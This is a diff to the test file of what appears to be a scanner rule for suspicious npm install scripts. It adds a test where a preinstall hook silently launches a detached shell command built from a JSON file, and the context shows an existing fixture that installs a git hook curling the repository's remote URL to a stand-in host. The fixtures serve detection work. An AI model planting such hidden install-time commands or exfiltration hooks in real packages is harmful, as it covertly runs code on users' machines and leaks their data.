@@ -331,6 +331,16 @@ test('commands in files of their own, where something starts them', () => {
   assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"] }] }' }), []);
 });
 
+test('when it is installed, a command that nobody can read is left running', () => {
+  const files = (start: string): Record<string, string> => ({ 'index.js': '', 'check.js': `const { tools } = require('./engines.json'); const { spawn } = require('child_process'); ${start}`, 'engines.json': '{"tools":["c","url"]}' });
+  const left = "spawn('/bin/sh', ['-c', tools.join('')], { detached: true, stdio: 'ignore' }).unref()";
+  const install = { original: { scripts: { preinstall: 'node check.js' } } };
+  assert.deepEqual(said(rule, files(left), install), ['high check.js:1']);
+  assert.deepEqual(said(rule, files(left), { original: { scripts: { test: 'node check.js' } } }), [], 'nobody starts it by installing');
+  assert.deepEqual(said(rule, files("spawn('sh', ['-c', tools.join('')], { stdio: 'inherit' })"), install), [], 'whoever installs it sees what it does');
+  assert.deepEqual(said(rule, files("spawn('sh', ['-c', `node build.js ${tools[0]}`], { detached: true }).unref()"), install), [], 'the program is written');
+});
+
 test('a command that a script hands over when the package is installed, where another one names a file that is started by itself', () => {
   const hooks = 'const { join } = require("path"); exports.add = (name, line, root) => require("fs").writeFileSync(join(root, ".git", "hooks", name), line)';
   const install = 'const line = \'curl -s -F "r=$(git config --get remote.origin.url)" https://hooks.example/push\'; require("./hooks").add("post-commit", line, process.env.INIT_CWD)';
